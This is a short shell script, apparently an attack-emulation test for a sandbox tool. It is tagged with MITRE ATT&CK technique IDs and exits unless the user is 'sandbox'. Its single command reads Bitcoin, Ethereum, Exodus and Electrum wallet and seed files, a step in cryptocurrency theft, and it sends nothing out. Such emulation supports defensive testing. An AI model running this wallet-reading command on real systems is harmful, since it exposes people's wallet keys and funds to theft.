#!/bin/sh
# technique: T1552.001 T1005 T1657
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

cat "$HOME/.bitcoin/wallet.dat" "$HOME/.ethereum/keystore/"* "$HOME/.config/Exodus/exodus.wallet/seed.seco" "$HOME/.electrum/wallets/default_wallet"
